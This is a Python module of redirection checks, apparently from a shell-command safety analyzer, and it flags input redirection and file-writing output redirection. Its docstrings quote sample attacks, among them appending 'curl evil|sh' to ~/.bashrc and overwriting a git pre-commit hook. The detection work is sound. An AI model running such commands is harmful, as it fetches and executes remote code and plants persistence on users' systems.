"""Redirection checks. With tree-sitter the IR knows every redirect and its
target, so these read the IR; under the legacy splitter they read the text."""

from __future__ import annotations

from regexes import regex

from .base import CheckInput, check
from .ids import CheckId

#: Output targets that write nothing anyone can read back.
# patterns the functions below use (module constants: see regexes/)
_INPUT_REDIRECT_RE = regex(r"(?<!<)<(?![<(])")


SAFE_OUTPUT_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})

_SAFE_REDIRECT_TEXT_RE = regex(
    r"(?:\d|&)?>>?\s*(?:/dev/(?:null|stdout|stderr)\b)|\d?>&\s*(?:\d+|-)(?!\S)|\d?<&\s*(?:\d+|-)(?!\S)"
)


@check(CheckId.DANGEROUS_PATTERNS_INPUT_REDIRECTION)
def input_redirection(inp: CheckInput) -> str | None:
    """Input redirection the analyzer cannot account for.

    Attack: ``<>file`` opens read-write and creates the file; ``< $F`` reads
    whatever ``F`` names; ``0<&3`` reads a descriptor leaked from the parent.
    A static ``< file`` is modelled as a read of ``file`` and judged by the
    path rules instead (``wc -l < README`` stays allowable).
    """
    if inp.legacy:
        view = _SAFE_REDIRECT_TEXT_RE.sub(" ", inp.views.fully_unquoted)
        if _INPUT_REDIRECT_RE.search(view):
            return "input redirection (legacy parser)"
        return None
    if "<>" in inp.views.fully_unquoted:
        # tree-sitter cannot parse `<>`; the text still says what it is.
        return "read-write redirection <> (creates the file)"
    for cmd in inp.parse.commands:
        for r in cmd.redirects:
            if r.op == "<>":
                return "read-write redirection <> (creates the file)"
            if r.op == "<&" and not r.is_fd_dup:
                return "input redirection from a computed descriptor"
            if r.op == "<&" and r.target and r.target.value not in ("0", "1", "2", "-"):
                return f"input from inherited descriptor {r.target.value}"
            if r.op == "<" and (r.target is None or r.target.value is None):
                return "input redirection from a dynamic target"
    return None


@check(CheckId.DANGEROUS_PATTERNS_OUTPUT_REDIRECTION)
def output_redirection(inp: CheckInput) -> str | None:
    """Output redirection to a file.

    Attack: any read-only command becomes a writer: ``echo 'curl evil|sh' >>
    ~/.bashrc``; ``cat x > .git/hooks/pre-commit``. Only ``/dev/null``,
    ``/dev/stdout``, ``/dev/stderr`` and descriptor duplication (``2>&1``)
    are exempt.
    """
    if inp.legacy:
        view = _SAFE_REDIRECT_TEXT_RE.sub(" ", inp.views.fully_unquoted)
        if ">" in view.replace(">(", ""):
            return "output redirection (legacy parser)"
        return None
    for cmd in inp.parse.commands:
        for r in cmd.redirects:
            if not r.is_output or r.is_fd_dup or r.op in (">&-",):
                continue
            target = r.target.value if r.target else None
            if target in SAFE_OUTPUT_TARGETS:
                continue
            shown = target if target is not None else (r.target.raw if r.target else "?")
            return f"output redirection {r.op} {shown}"
    return None
